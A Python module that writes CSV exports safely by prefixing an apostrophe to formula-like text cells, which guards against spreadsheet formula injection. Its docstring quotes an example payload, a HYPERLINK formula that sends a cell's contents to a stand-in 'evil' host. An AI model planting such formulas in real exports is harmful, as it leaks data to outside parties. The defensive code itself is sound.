"""The one way we write CSV: every text cell made safe from spreadsheet formulas.

A cell such as `=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")` or `=1+2@…` typed into an order note
or a name would run when a cooperative opens our export in Excel or LibreOffice (OWASP "CSV
injection"). Text that a spreadsheet would read as a formula gets a leading `'`, which the
spreadsheet shows as text. Numbers, dates and booleans are ours, not user text, and are written as
they are.
"""

import csv
from collections.abc import Iterable, Mapping
from typing import Any

# ASCII starters, their full-width forms (some spreadsheets normalise them), tab and CR.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def csv_cell(value: object) -> object:
    """A CSV-safe cell: None → "", formula-like text → "'" + text, anything else unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and (
        value.startswith(FORMULA_STARTS) or value.lstrip(" ").startswith(FORMULA_STARTS)
    ):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose rows go through `csv_cell`."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow([csv_cell(v) for v in row])


class SafeDictWriter(csv.DictWriter):
    """`csv.DictWriter` whose values go through `csv_cell` (the header row is ours)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: csv_cell(v) for k, v in rowdict.items()})
